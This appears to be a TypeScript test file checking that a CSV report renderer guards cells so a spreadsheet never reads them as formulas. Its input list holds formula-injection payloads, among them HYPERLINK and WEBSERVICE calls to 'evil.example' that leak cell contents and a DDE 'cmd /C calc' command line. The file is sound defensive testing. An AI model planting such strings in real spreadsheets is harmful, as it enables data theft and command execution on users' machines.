import { renderCsv } from "#core/report/render-csv.ts";
import { HOSTILE } from "#tests/support/hostile-report.ts";
import { readCsv } from "#tests/support/read-csv.ts";
import { hostileSession, reportOn } from "#tests/support/reports.ts";
import { openInSpreadsheet } from "#tests/support/spreadsheet.ts";
import { expect, test } from "vitest";

const FILES = 100;
const BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " =", "\n=", "\u200b="];
const FORMULAS = [
  ...["1+1", "SUM(1;2)", 'HYPERLINK("http://evil.example/?"&A1;"x")', "cmd|' /C calc'!A1", '"a"&"b"'],
  ...['WEBSERVICE("http://evil.example")', "1", "A1", "2*(3+4)", '","=1+1'],
];

/** Texts of people who mean no good, each with a beginning that a spreadsheet may take for a formula. */
function dangerous(file: number): readonly string[] {
  return Array.from({ length: 40 }, (_, i) => {
    const at = file * 40 + i;
    const text = i % 2 === 0 ? FORMULAS[at % FORMULAS.length] : HOSTILE[at % HOSTILE.length];
    return `${BEGINNINGS[(at + file) % BEGINNINGS.length]}${text}`;
  });
}

const filledIn = (table: string) =>
  readCsv(table)
    .flat()
    .filter((cell) => cell !== "").length;

test("a spreadsheet takes for a formula what stands in a table unguarded", () => {
  const [opened] = openInSpreadsheet(['seam,"=SUM(1,2)"\r\n=1+1,\r\n']);
  expect(opened).toEqual({ filled: 3, formulas: 2 });
});

test(`a spreadsheet finds no formula in ${FILES} tables of findings, and every cell that was written (T11)`, () => {
  const tables = Array.from({ length: FILES }, (_, file) =>
    renderCsv(reportOn(hostileSession(dangerous(file)))),
  );
  expect(openInSpreadsheet(tables)).toEqual(
    tables.map((table) => ({ filled: filledIn(table), formulas: 0 })),
  );
  const guarded = tables
    .flatMap(readCsv)
    .flat()
    .filter((cell) => cell.startsWith("'"));
  expect(guarded.length).toBeGreaterThan(FILES);
});
